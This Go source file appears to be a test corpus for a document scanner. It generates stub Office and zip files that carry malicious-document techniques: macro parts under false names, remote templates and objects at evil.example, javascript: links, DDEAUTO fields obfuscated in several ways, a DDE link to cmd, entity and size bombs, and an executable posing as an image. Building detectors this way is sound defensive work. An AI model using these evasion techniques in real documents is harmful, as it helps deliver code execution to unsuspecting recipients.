package corpus

import (
	"strings"

	"github.com/slipway-go/slipway/modules/files/filesapi"
)

// documents returns documents that run something, or are not what they are called.
func documents() []Sample {
	word := func(more ...string) func() []byte {
		return func() []byte { return document(wordMain, "word/document.xml", more...) }
	}
	override := func(part, kind string) func() []byte {
		return func() []byte {
			return Zip("[Content_Types].xml", types(wordMain, "word/document.xml", `<Override PartName="/`+part+`" ContentType="`+kind+`"/>`), part, "x")
		}
	}
	leads := func(kind, target string) func() []byte {
		return word("word/_rels/settings.xml.rels", relation(kind, target))
	}
	macro := filesapi.ReasonMacro
	return []Sample{
		of(macro, "a.docx", "macros in a letter", word("word/vbaProject.bin", oleMagic+"x")),
		of(macro, "a.docx", "macros by another name", word("word/harmless.bin", oleMagic+"x")),
		of(macro, "a.docx", "a part of the type of macros", override("word/a.bin", "application/vnd.ms-office.vbaProject")),
		of(macro, "a.docx", "a letter of the type with macros", func() []byte {
			return document("application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml")
		}),
		of(macro, "a.xlsx", "a sheet of old macros", func() []byte { return document(sheetMain, "xl/workbook.xml", "xl/macrosheets/sheet1.xml", "<a/>") }),
		of(macro, "a.xlsx", "a sheet of the type of old macros", override("xl/s.xml", "application/vnd.ms-excel.macrosheet+xml")),
		of(macro, "a.docx", "a control", word("word/activeX/activeX1.bin", "x")),
		of(macro, "a.docx", "an object of another program", word("word/embeddings/oleObject1.bin", "x")),
		of(macro, "a.docx", "a template from elsewhere", leads("attachedTemplate", "https://evil.example/a.dotm")),
		of(macro, "a.docx", "an object from elsewhere", leads("oleObject", "mhtml:https://evil.example/a.html")),
		of(macro, "a.docx", "a frame from elsewhere", leads("frame", "https://evil.example/a.html")),
		of(macro, "a.docx", "a link that runs", leads("hyperlink", "javascript:alert(1)")),
		of(macro, "a.docx", "a relation to macros", leads("vbaProject", "harmless.bin")),
		of(macro, "a.docx", "a field that runs", word("word/footer.xml", `<w:instrText>DDEAUTO c:\\x "y"</w:instrText>`)),
		of(macro, "a.docx", "a field that runs, in small letters", word("word/footer.xml", code(`ddeauto c:\\x "y"`))),
		of(macro, "a.docx", "a field that runs, by numbers of characters", word("word/footer.xml", code(`DDE&#65;UTO c:\\x "y"`))),
		of(macro, "a.docx", "a field that runs when it is asked to", word("word/footer.xml", code(` DDE c:\\x "y"`))),
		of(macro, "a.docx", "a field that runs, as an attribute", word("word/footer.xml", `<w:fldSimple w:instr="d&#x64;e c:\\x y"/>`)),
		of(macro, "a.docx", "a field that runs, in two pieces", word("word/footer.xml", "<a>"+code("DD")+code("EAUTO x")+"</a>")),
		of(macro, "a.docx", "a field that runs, in a part by another name", word("word/footer.foo", code("ddeauto x"))),
		of(filesapi.ReasonEncrypted, "a.docx", "a part in UTF-16", word("word/footer.xml", "\xff\xfe"+wide(code("DDEAUTO x")))),
		of(filesapi.ReasonEncrypted, "a.docx", "a part in UTF-16 without a mark, by another name", word("word/footer.foo", wide(code("DDEAUTO x")))),
		of(filesapi.ReasonEncrypted, "a.docx", "a part in another encoding", word("word/footer.xml", `<?xml version="1.0" encoding="UTF-7"?>`+code("PAGE"))),
		of(filesapi.ReasonBomb, "a.docx", "elements in one another", word("word/_rels/a.xml.rels", strings.Repeat("<a>", 100_000))),
		of(macro, "a.docx", "a template from elsewhere, with two modes", word("word/_rels/settings.xml.rels", strings.Replace(
			relation("attachedTemplate", "https://evil.example/a.dotm"), "<Relationship ", `<Relationship xmlns:x="urn:x" x:TargetMode="Internal" `, 1))),
		of(macro, "a.docx", "a template from elsewhere that says it is within", word("word/_rels/settings.xml.rels", strings.Replace(
			relation("attachedTemplate", "https://evil.example/a.dotm"), `TargetMode="External"`, "", 1))),
		of(macro, "a.xlsx", "a cell that runs", func() []byte {
			return document(sheetMain, "xl/workbook.xml", "xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd"/></externalLink>`)
		}),
		of(macro, "a.docx", "a sheet with macros in a letter", word("word/embeddings/a.xlsx", string(document(sheetMain, "xl/workbook.xml", "xl/vbaProject.bin", "x")))),
		of(macro, "a.zip", "a letter with macros in an archive", func() []byte { return Zip("a.docx", string(word("word/vbaProject.bin", "x")())) }),
		of(filesapi.ReasonExecutable, "a.docx", "a program in a letter", word("word/media/image1.png", "MZ\x90\x00"+zeros(100))),
		of(filesapi.ReasonBomb, "a.docx", "laughs in a letter", word("word/a.xml", `<!DOCTYPE a [<!ENTITY b "cc">]><a>&b;</a>`)),
		of(filesapi.ReasonBomb, "a.docx", "a bomb in a letter", word("word/media/a.bmp", strings.Repeat("\x00", 40<<20))),
		of(filesapi.ReasonCorrupt, "a.docx", "a letter that is a sheet as well", func() []byte {
			return Zip("[Content_Types].xml", types(wordMain, "a.xml", `<Override PartName="/b.xml" ContentType="`+sheetMain+`"/>`))
		}),
		of(filesapi.ReasonCorrupt, "a.docx", "a letter whose types are no XML", func() []byte { return Zip("[Content_Types].xml", "<Types><") }),
		of(filesapi.ReasonMismatch, "a.docx", "a sheet as a letter", XLSX),
		of(filesapi.ReasonMismatch, "a.docx", "an archive as a letter", func() []byte { return Zip("a.txt", "hello") }),
		of(filesapi.ReasonMismatch, "a.zip", "a letter as an archive", DOCX),
		of(filesapi.ReasonType, "a.docx", "a template", func() []byte {
			return document("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml", "word/document.xml")
		}),
	}
}

// code returns a part with the code of a field.
func code(text string) string { return "<w:instrText>" + text + "</w:instrText>" }
